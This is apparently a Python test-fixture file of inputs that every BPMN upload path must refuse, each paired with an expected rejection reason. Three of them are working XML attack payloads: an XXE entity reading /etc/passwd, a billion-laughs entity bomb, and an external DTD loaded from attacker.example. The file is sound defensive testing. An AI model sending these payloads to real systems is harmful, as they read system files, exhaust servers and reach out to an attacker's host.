"""Hostile and broken inputs that every BPMN upload path must refuse."""

from __future__ import annotations

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x">
  <bpmn:process id="P"><bpmn:task id="T" name="&secret;"/></bpmn:process>
</bpmn:definitions>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x">
  <bpmn:process id="P"><bpmn:task id="T" name="&lol9;"/></bpmn:process>
</bpmn:definitions>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x"/>"""

PLAIN_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x"/>"""

NOT_XML = b"Name;LeiKa\nWohnsitz anmelden;99115005104000\n"
BINARY = bytes(range(256)) * 4
TRUNCATED = b'<?xml version="1.0"?><bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"><bpmn:process'
NOT_BPMN = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
WRONG_NAMESPACE = (
    b'<?xml version="1.0"?><definitions xmlns="http://www.omg.org/spec/BPMN/2009/MODEL"/>'
)

REFUSED = {
    "xxe": (XXE, "external-entity"),
    "billion-laughs": (BILLION_LAUGHS, "entities"),
    "external-dtd": (EXTERNAL_DTD, "external-dtd"),
    "doctype": (PLAIN_DOCTYPE, "doctype"),
    "not-xml": (NOT_XML, "not-xml"),
    "binary": (BINARY, "not-xml"),
    "truncated": (TRUNCATED, "not-xml"),
    "not-bpmn": (NOT_BPMN, "not-bpmn"),
    "wrong-namespace": (WRONG_NAMESPACE, "not-bpmn"),
    "empty": (b"  \n", "empty"),
}
